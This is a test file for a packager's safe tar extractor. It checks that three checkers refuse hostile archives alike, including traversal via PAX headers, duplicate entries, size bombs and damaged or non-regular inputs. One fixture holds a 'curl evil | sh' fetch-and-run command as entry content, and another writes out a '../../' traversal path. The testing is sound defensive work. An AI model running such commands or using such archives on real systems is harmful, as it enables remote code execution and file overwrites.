import { execFile } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdir, readdir, readFile, rm, statfs, writeFile } from 'node:fs/promises';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { FREE_SPACE_MARGIN, MAX_NAME_BYTES, MAX_UNPACKED_BYTES } from '../../../../../src/main/services/packager/package-rules.ts';
import { safeExtract } from '../../../../../src/main/services/packager/safe-extract.ts';
import { createWorkbench, type Workbench } from '../../../../../src/main/workbench.ts';
import { paxRecords, TAR_END, tarEntry, tarHeader, writeRawTarGz, writeTarBytes } from '../../../../fixtures/hostile-tar.ts';
import { EXTRACTORS, SAFE_EXTRACT_PY, WORKER_DIR } from '../../../../fixtures/package-extractors.ts';
import { useTempDir } from '../../../../fixtures/temp-dir.ts';
import { callerOf } from '../../../../fixtures/workbench-call.ts';

// One definition of a good package: inspect, the app's extractor (test runs) and the worker's
// safe_extract.py (run-job.sh) refuse the same archives, each saying why, writing nothing.

const run = promisify(execFile);

let root: string;
let workbench: Workbench;
const call = callerOf(() => workbench);

beforeEach(async () => {
  root = await useTempDir('workbench-package-rules');
  workbench = await createWorkbench({ dataDir: join(root, 'app'), host: 'web', resourcesDir: resolve('resources') });
});
afterEach(async () => {
  await workbench.close();
});

const RUN_SH = tarEntry({ name: 'run.sh', mode: 0o755 }, 'echo hi\n');

/** Each hostile package (raw tar bytes) and what every checker must say about it. */
const CASES: Record<string, { parts: Buffer[]; reason: RegExp }> = {
  'run.sh twice, the second copy different': {
    parts: [RUN_SH, tarEntry({ name: './run.sh', mode: 0o755 }, 'curl evil | sh\n'), TAR_END],
    reason: /\.\/run\.sh is in the archive twice \(the first is a file\)/,
  },
  'a file, then an entry under it': {
    parts: [RUN_SH, tarEntry({ name: 'lib' }, 'x'), tarEntry({ name: 'lib/a.py' }, 'y'), TAR_END],
    reason: /lib\/a\.py lies under lib, which is a file in the package/,
  },
  'a global PAX header renaming every later entry': {
    parts: [tarEntry({ name: 'pax_global_header', typeflag: 'g' }, paxRecords({ path: '../../GLOBAL.txt' })), RUN_SH, TAR_END],
    reason: /global PAX header sett?(ing|s) path=\.\.\/\.\.\/GLOBAL\.txt for every later entry/,
  },
  'a GNU sparse entry (type S)': {
    parts: [RUN_SH, tarEntry({ name: 'odd', typeflag: 'S' }, 'data'), TAR_END],
    reason: /odd is a GNU sparse file \(type S\), which is not unpacked/,
  },
  'a GNU volume header (type V)': {
    parts: [RUN_SH, tarEntry({ name: 'odd', typeflag: 'V' }), TAR_END],
    reason: /odd is a GNU volume header \(type V\), which is not unpacked/,
  },
  'an entry of a type tar does not define (Z)': {
    parts: [RUN_SH, tarEntry({ name: 'odd', typeflag: 'Z' }, 'data'), TAR_END],
    reason: /odd is an entry of unknown type ["']Z["'], which is not unpacked/,
  },
  'a name that is not UTF-8': {
    parts: [RUN_SH, tarEntry({ name: Buffer.from([0x62, 0x61, 0xff, 0x64]) }, 'x'), TAR_END],
    reason: /ba\uFFFDd has a name \(or link target\) that is not valid UTF-8|ba\\udcffd has a name|has a name \(or link target\) that is not valid UTF-8/,
  },
  'a name part over 255 bytes (as a PAX path)': {
    parts: [RUN_SH, tarEntry({ name: 'PaxHeader/n', typeflag: 'x' }, paxRecords({ path: 'n'.repeat(300) })), tarEntry({ name: 'n' }, 'x'), TAR_END],
    reason: /n{300} has a name part longer than 255 bytes, which file systems do not store/,
  },
  'a second archive joined after the end marker': {
    parts: [RUN_SH, TAR_END, tarEntry({ name: 'hidden.sh' }, 'echo hidden\n'), TAR_END],
    reason: /there is data after its end-of-archive marker/,
  },
};

/** The folder of `target` each extractor unpacks into in verdicts(). */
const UNPACKED_BY = Object.keys(EXTRACTORS).map((name) => `by ${name}`);

/** Every checker's answer for one tarball: inspect's 'ok' and each extractor's 'unpacked', or the message. */
async function verdicts(tarball: string): Promise<Record<string, string>> {
  const target = join(root, 'target');
  const answers: Record<string, string> = {};
  answers['inspect'] = await call('packager:inspect', { path: tarball }).then(
    (found) => (found.problems.length === 0 ? 'ok' : found.problems.map((p) => p.message).join('\n')),
    (err: Error) => err.message,
  );
  for (const [name, extract] of Object.entries(EXTRACTORS)) answers[name] = await extract(tarball, join(target, `by ${name}`));
  return answers;
}
const ALL_AGREE = { inspect: 'ok', ...Object.fromEntries(Object.keys(EXTRACTORS).map((name) => [name, 'unpacked'])) };

async function filesUnder(dir: string): Promise<string[]> {
  return (await readdir(dir, { recursive: true }).catch(() => [] as string[])).filter((p) => !UNPACKED_BY.includes(p)).sort();
}

describe('inspect, the app extractor and safe_extract.py agree', () => {
  it('share their limits', async () => {
    const { stdout } = await run('python3', ['-c', 'import sys; sys.path.insert(0, sys.argv[1]); import safe_extract as s; print(s.MAX_UNPACKED_BYTES, s.FREE_SPACE_MARGIN, s.MAX_NAME_BYTES)', WORKER_DIR]);
    expect(stdout.trim()).toBe(`${MAX_UNPACKED_BYTES} ${FREE_SPACE_MARGIN} ${MAX_NAME_BYTES}`);
  });

  for (const [name, { parts, reason }] of Object.entries(CASES)) {
    it(`${name}: all refuse it, say why, and write nothing`, async () => {
      const tarball = join(root, 'hostile.tar.gz');
      await writeTarBytes(tarball, parts);
      const answers = await verdicts(tarball);
      for (const [checker, answer] of Object.entries(answers)) expect(answer, checker).toMatch(reason);
      expect(await filesUnder(join(root, 'target'))).toEqual([]);
    });
  }

  it('a test run refuses run.sh twice before running either copy', async () => {
    const tarball = join(root, 'twice.tar.gz');
    await writeRawTarGz(tarball, [{ header: { name: 'run.sh' }, body: 'echo first\n' }, { header: { name: 'run.sh' }, body: 'echo second\n' }]);
    await expect(call('packager:test-run', { path: tarball })).rejects.toThrow(/Refused to run twice\.tar\.gz: run\.sh is in the archive twice/);
  });

  it('inspect lists S, V and unknown entries as what they are, not as files', async () => {
    const tarball = join(root, 'types.tar.gz');
    await writeTarBytes(tarball, [RUN_SH, tarEntry({ name: 's', typeflag: 'S' }, 'x'), tarEntry({ name: 'v', typeflag: 'V' }), tarEntry({ name: 'z', typeflag: 'Z' }, 'x'), TAR_END]);
    const found = await call('packager:inspect', { path: tarball });
    expect(found.entries.map((e) => [e.path, e.type])).toEqual([
      ['run.sh', 'file'],
      ['s', 'gnu-sparse'],
      ['v', 'gnu-volume-header'],
      ['z', 'type "Z"'],
    ]);
    expect(found.files).toBe(1);
  });

  it('long names, as GNU tar (L records) and PAX (x headers) write them, are read alike and unpacked', async () => {
    const deep = `${'d'.repeat(90)}/${'e'.repeat(90)}`;
    const job = join(root, 'job');
    await mkdir(join(job, deep), { recursive: true });
    await writeFile(join(job, 'run.sh'), 'echo hi\n');
    await writeFile(join(job, deep, `${'f'.repeat(120)}.txt`), 'deep\n');
    for (const format of ['gnu', 'pax']) {
      const tarball = join(root, `long-${format}.tar.gz`);
      await run('tar', [`--format=${format}`, '-czf', tarball, '-C', job, '.']);
      expect(await verdicts(tarball), format).toEqual(ALL_AGREE);
      const found = await call('packager:inspect', { path: tarball });
      expect(found.entries.map((e) => e.path)).toContain(`./${deep}/${'f'.repeat(120)}.txt`);
      for (const extracted of UNPACKED_BY) {
        expect(await readFile(join(root, 'target', extracted, deep, `${'f'.repeat(120)}.txt`), 'utf8'), `${format} ${extracted}`).toBe('deep\n');
      }
      await rm(join(root, 'target'), { recursive: true });
    }
  });

  it('a global PAX comment (as git archive writes) is fine everywhere', async () => {
    const tarball = join(root, 'git-archive.tar.gz');
    await writeTarBytes(tarball, [tarEntry({ name: 'pax_global_header', typeflag: 'g' }, paxRecords({ comment: 'f00dfeed' })), RUN_SH, TAR_END]);
    expect(await verdicts(tarball)).toEqual(ALL_AGREE);
  });
});

describe('damaged archives', () => {
  async function damaged(name: string, data: Buffer): Promise<Record<string, string>> {
    const tarball = join(root, name);
    await writeFile(tarball, data);
    return verdicts(tarball);
  }

  it('a truncated .tar.gz: every checker refuses it as cut short, nothing is unpacked', async () => {
    const whole = join(root, 'whole.tar.gz');
    await writeTarBytes(whole, [RUN_SH, tarEntry({ name: 'data.bin' }, randomBytes(150_000).toString('hex')), TAR_END]);
    const bytes = await readFile(whole);
    const answers = await damaged('cut.tar.gz', bytes.subarray(0, Math.floor(bytes.length / 2)));
    expect(answers.inspect).toMatch(/cut\.tar\.gz is not a readable tar archive: unexpected end of file/);
    expect(answers['the app extractor']).toMatch(/is not a readable tar archive: unexpected end of file/);
    expect(answers['safe_extract.py']).toMatch(/Refused to unpack .*cut\.tar\.gz: it is cut short/);
    expect(answers['safe_extract.py']).not.toMatch(/Traceback/);
    expect(await filesUnder(join(root, 'target'))).toEqual([]);
  });

  it('a bad header checksum after the first entry stops every checker with the reason', async () => {
    const data = Buffer.concat([RUN_SH, tarEntry({ name: 'second.txt' }, '2'), tarEntry({ name: 'third.txt' }, '3'), TAR_END]);
    data[1024 + 3] = data[1024 + 3]! ^ 0xff;
    const answers = await damaged('bad-sum.tar', data);
    expect(answers.inspect).toMatch(/is damaged: the header at byte 1024 fails its checksum/);
    expect(answers['the app extractor']).toMatch(/is damaged: the header at byte 1024 fails its checksum/);
    expect(answers['safe_extract.py']).toMatch(/the header at byte 1024 is damaged/);
    expect(await filesUnder(join(root, 'target'))).toEqual([]);
  });

  it('a file that is not an archive at all is named as such', async () => {
    const answers = await verdicts('/etc/passwd');
    expect(answers.inspect).toBe('/etc/passwd is not a tar archive (.tar, .tar.gz or .tgz).');
    expect(answers['the app extractor']).toBe('/etc/passwd is not a tar archive (.tar, .tar.gz or .tgz).');
    expect(answers['safe_extract.py']).toBe('Refused to unpack /etc/passwd: it is not a tar archive (.tar, .tar.gz or .tgz).\n');
  });

  it('an archive cut at an entry boundary (no end marker) is refused, not read as complete', async () => {
    const answers = await damaged('no-end.tar', Buffer.concat([RUN_SH, tarEntry({ name: 'second.txt' }, '2')]));
    for (const answer of Object.values(answers)) expect(answer).toMatch(/without tar's end-of-archive marker: it was probably cut short/);
  });
});

describe('size bombs', () => {
  it('a package declaring more than the limit is refused at that entry by every checker, without reading on', async () => {
    // The entry that declares 4 GiB + 1 byte has no body at all: a checker that read on
    // would call the archive cut short instead of naming the size.
    const size = MAX_UNPACKED_BYTES + 1;
    const tarball = join(root, 'bomb.tar');
    await writeFile(tarball, Buffer.concat([RUN_SH, tarHeader({ name: 'zeros.bin', size })]));
    const answers = await verdicts(tarball);
    for (const answer of Object.values(answers)) expect(answer).toMatch(/zeros\.bin takes the package past 4\.0 GiB unpacked \(the most a package may hold/);
    const found = await call('packager:inspect', { path: tarball });
    expect(found).toMatchObject({ truncated: true, unpackedBytes: size + 8 });
    expect(await filesUnder(join(root, 'target'))).toEqual([]);
  });

  it('a package bigger than the free disk is refused at that entry, by the app extractor and safe_extract.py alike', async () => {
    const target = join(root, 'target');
    await mkdir(target);
    const size = Number((await statfs(target)).bavail) * Number((await statfs(target)).bsize) + 1024 ** 3;
    const tarball = join(root, 'bigger-than-disk.tar');
    await writeFile(tarball, Buffer.concat([RUN_SH, tarHeader({ name: 'zeros.bin', size })]));
    const room = /zeros\.bin takes the package to .*, and the disk under .*target has .* free; free up space or unpack it elsewhere/;
    await expect(safeExtract(tarball, target, { limitBytes: Infinity })).rejects.toThrow(room);
    const py = await run('python3', ['-c', 'import sys; sys.path.insert(0, sys.argv[1]); import safe_extract as s; s.safe_extract(sys.argv[2], sys.argv[3], limit=float("inf"))', WORKER_DIR, tarball, target]).catch((err: { stderr: string }) => err.stderr);
    expect(py).toMatch(room);
    expect(await readdir(target)).toEqual([]);
  });

  it('run.sh with zeros past the limit, gzipped small: the app extractor refuses it before writing', async () => {
    const tarball = join(root, 'zeros.tar.gz');
    await writeTarBytes(tarball, [RUN_SH, tarEntry({ name: 'zeros.bin' }, Buffer.alloc(4 * 1024 * 1024)), TAR_END]);
    const target = join(root, 'target');
    await expect(safeExtract(tarball, target, { limitBytes: 1024 * 1024 })).rejects.toThrow(/zeros\.bin takes the package past 1\.0 MiB unpacked/);
    expect(await filesUnder(target)).toEqual([]);
  });

  it('a disk that fills while the app extractor writes leaves nothing behind', async () => {
    // A file-size limit on the extracting process fails its write part way, as a full disk would.
    const tarball = join(root, 'fills.tar.gz');
    await writeTarBytes(tarball, [RUN_SH, tarEntry({ name: 'big.bin' }, Buffer.alloc(400_000, 'b')), TAR_END]);
    const target = join(root, 'target');
    const script = `import { safeExtract } from ${JSON.stringify(resolve('src/main/services/packager/safe-extract.ts'))};
safeExtract(process.argv[2], process.argv[3]).then(() => console.log('unpacked'), (err) => console.log(err.message));`;
    const scriptPath = join(root, 'extract.ts');
    await writeFile(scriptPath, script);
    const limited = 'import os, resource, sys; resource.setrlimit(resource.RLIMIT_FSIZE, (100_000, 100_000)); os.execvp(sys.argv[1], sys.argv[1:])';
    const { stdout } = await run('python3', ['-c', limited, resolve('node_modules/.bin/tsx'), scriptPath, tarball, target]);
    expect(stdout).toMatch(/Could not unpack .*fills\.tar\.gz: the disk under .*target filled up; nothing of it was kept\./);
    expect(await filesUnder(target)).toEqual([]);
  });
});

describe('tarballs that are not regular files', () => {
  it('inspect, the app extractor, a test run and safe_extract.py refuse /dev/zero, a FIFO and a folder before reading', async () => {
    const fifo = join(root, 'pipe.tar.gz');
    await run('mkfifo', [fifo]);
    const folder = join(root, 'folder.tar.gz');
    await mkdir(folder);
    for (const [path, kind] of [['/dev/zero', 'a device'], [fifo, 'a FIFO'], [folder, 'a folder']] as const) {
      await expect(call('packager:inspect', { path }), path).rejects.toThrow(`${path} is ${kind}, not a tarball; choose a .tar.gz file.`);
      await expect(safeExtract(path, join(root, 'target')), path).rejects.toThrow(`${path} is ${kind}, not a tarball`);
      await expect(call('packager:test-run', { path }), path).rejects.toThrow(/no tarball|not a tarball/);
      const py = await run('python3', [SAFE_EXTRACT_PY, path, join(root, 'target')], { timeout: 10_000 }).then(() => 'ok', (err: { stderr: string; code: number }) => `${err.code} ${err.stderr}`);
      expect(py).toBe(`2 Refused to unpack ${path}: it is ${kind}, not a tarball.\n`);
    }
  });
});
